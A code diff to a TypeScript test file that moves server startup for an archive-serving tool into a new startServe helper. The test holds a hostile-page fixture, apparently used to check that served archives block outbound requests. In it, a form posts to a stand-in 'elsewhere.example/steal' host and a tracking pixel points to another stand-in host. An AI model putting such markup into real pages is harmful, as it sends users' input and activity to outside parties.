@@ -5,7 +5,7 @@ import { after, before, test } from 'node:test';
 import type { Browser } from 'playwright-core';
 import { loadCodec } from '../../src/archive/codec.js';
 import { isLoopbackHost, launchChromium } from '../helpers/browser.js';
-import { startForest, waitFor } from '../helpers/cli.js';
+import { startServe, type ForestProcess } from '../helpers/cli.js';
 import { smallArchive } from '../helpers/small-archive.js';
 import { tempDir } from '../helpers/temp.js';
 
@@ -23,16 +23,14 @@ const HOSTILE_PAGE = [
   '<form action="https://elsewhere.example/steal" method="post"><input name="q" value="x"><button id="send">send</button></form>',
   '<img src="https://tracker.example/pixel.gif">',
 ].join('');
-let server: ReturnType<typeof startForest>;
+let server: ForestProcess;
 let base = '';
 let browser: Browser;
 
 before(async () => {
   await loadCodec();
   await smallArchive(database, ['One', 'Two', 'Three'], { firstPageExtra: HOSTILE_PAGE, latestHtmlExtra: HOSTILE_PAGE }).close();
-  server = startForest(['serve', '--db', database, '--port', '0']);
-  await waitFor(() => /listening on/.test(server.output.stdout), 15_000, `forest serve (stderr: ${server.output.stderr})`);
-  base = /listening on (http:\/\/\S+)/.exec(server.output.stdout)![1]!;
+  ({ server, base } = await startServe(['--db', database]));
   browser = await launchChromium();
 });
 
